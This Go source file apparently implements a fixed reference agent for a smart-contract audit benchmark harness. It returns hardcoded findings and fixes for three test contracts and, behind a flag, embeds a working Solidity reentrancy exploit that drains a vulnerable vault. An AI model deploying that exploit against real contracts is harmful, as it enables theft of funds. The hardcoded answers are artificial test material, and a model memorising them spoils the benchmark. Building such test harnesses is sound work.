// Command reference-auditor is a minimal purple agent. It answers every
// audit task with findings for the contracts it recognizes, which makes it
// a fixed point for checking the harness end to end.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"strings"
)

type Task struct {
	Task      string         `json:"task"`
	Contracts []string       `json:"contracts"`
	Config    map[string]any `json:"config"`
}

type Finding struct {
	Contract          string  `json:"contract"`
	VulnerabilityType string  `json:"vulnerability_type"`
	Severity          float64 `json:"severity"`
	LineNumber        int     `json:"line_number"`
	Description       string  `json:"description"`
	ExploitCondition  string  `json:"exploit_condition,omitempty"`
}

type Fix struct {
	LineNumber   int    `json:"line_number"`
	OriginalCode string `json:"original_code"`
	FixedCode    string `json:"fixed_code"`
	Explanation  string `json:"explanation"`
}

type Submission struct {
	AgentID           string         `json:"agent_id"`
	Findings          []Finding      `json:"findings"`
	Fixes             []Fix          `json:"fixes"`
	ExploitSimulation map[string]any `json:"exploit_simulation,omitempty"`
	Metadata          map[string]any `json:"metadata"`
}

type knowledge struct {
	finding Finding
	fix     Fix
}

// known holds what this agent "finds" in each target contract.
var known = map[string]knowledge{
	"ReentrancyVault": {
		finding: Finding{
			Contract: "ReentrancyVault", VulnerabilityType: "reentrancy", Severity: 0.9, LineNumber: 15,
			Description:      "withdraw sends ether before zeroing the balance",
			ExploitCondition: "attacker contract re-enters withdraw from its receive hook",
		},
		fix: Fix{
			LineNumber:   15,
			OriginalCode: `(bool ok, ) = msg.sender.call{value: amount}("");`,
			FixedCode:    `balances[msg.sender] = 0; (bool ok, ) = msg.sender.call{value: amount}("");`,
			Explanation:  "clear the balance before the external call",
		},
	},
	"FlashLoanPool": {
		finding: Finding{
			Contract: "FlashLoanPool", VulnerabilityType: "flash_loan", Severity: 0.8, LineNumber: 20,
			Description: "repayment is checked against a balance the borrower can inflate with deposit",
		},
		fix: Fix{
			LineNumber:   20,
			OriginalCode: "require(address(this).balance >= balanceBefore);",
			FixedCode:    "require(totalDeposits == depositsBefore && address(this).balance >= balanceBefore);",
			Explanation:  "deposits made during the loan must not count as repayment",
		},
	},
	"OracleManipulation": {
		finding: Finding{
			Contract: "OracleManipulation", VulnerabilityType: "oracle_manipulation", Severity: 0.7, LineNumber: 18,
			Description: "price is read from spot reserves that a single trade can move",
		},
		fix: Fix{
			LineNumber:   18,
			OriginalCode: "return reserveB * 1e18 / reserveA;",
			FixedCode:    "return twapOracle.consult(tokenA, 1e18);",
			Explanation:  "use a time weighted average price instead of spot reserves",
		},
	},
}

const reentrancyExploit = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

contract ExploitContract {
    IVault public vault;

    constructor(address target) payable {
        vault = IVault(target);
    }

    function executeExploit() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (address(vault).balance >= msg.value && msg.value > 0) {
            vault.withdraw();
        }
    }
}
`

type Options struct {
	AgentID string
	Exploit bool
	// Fenced wraps the answer in a markdown code block with a preamble.
	Fenced bool
}

// Answer builds the submission for a task. Unknown contracts are skipped.
func Answer(task Task, opts Options) Submission {
	sub := Submission{
		AgentID:  opts.AgentID,
		Findings: []Finding{},
		Fixes:    []Fix{},
		Metadata: map[string]any{"contracts_seen": len(task.Contracts)},
	}
	for _, c := range task.Contracts {
		k, ok := known[contractName(c)]
		if !ok {
			continue
		}
		sub.Findings = append(sub.Findings, k.finding)
		sub.Fixes = append(sub.Fixes, k.fix)
	}
	if opts.Exploit {
		sub.ExploitSimulation = map[string]any{
			"code":            reentrancyExploit,
			"contract_name":   "ExploitContract",
			"entry_point":     "executeExploit",
			"target_contract": "ReentrancyVault",
		}
	}
	return sub
}

func contractName(file string) string {
	if i := strings.LastIndexAny(file, `/\`); i >= 0 {
		file = file[i+1:]
	}
	return strings.TrimSuffix(file, ".sol")
}

func handler(opts Options) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST only", http.StatusMethodNotAllowed)
			return
		}
		var task Task
		if err := json.NewDecoder(r.Body).Decode(&task); err != nil {
			http.Error(w, "bad task: "+err.Error(), http.StatusBadRequest)
			return
		}
		if task.Task != "audit_smart_contracts" {
			http.Error(w, fmt.Sprintf("unsupported task %q", task.Task), http.StatusBadRequest)
			return
		}
		data, err := json.MarshalIndent(Answer(task, opts), "", "  ")
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		log.Printf("audited %d contract(s)", len(task.Contracts))
		if opts.Fenced {
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			fmt.Fprintf(w, "Here is my audit report.\n\n```json\n%s\n```\n", data)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(data)
	}
}

func main() {
	port := flag.Int("port", 9019, "HTTP port")
	agentID := flag.String("agent-id", "reference-auditor", "agent id reported in submissions")
	exploit := flag.Bool("exploit", false, "include a reentrancy exploit payload")
	fenced := flag.Bool("fenced", false, "answer in a markdown code fence")
	flag.Parse()

	opts := Options{AgentID: *agentID, Exploit: *exploit, Fenced: *fenced}
	addr := fmt.Sprintf("localhost:%d", *port)
	log.Printf("reference auditor listening on %s", addr)
	if err := http.ListenAndServe(addr, handler(opts)); err != nil {
		log.Printf("server error: %v", err)
		os.Exit(1)
	}
}
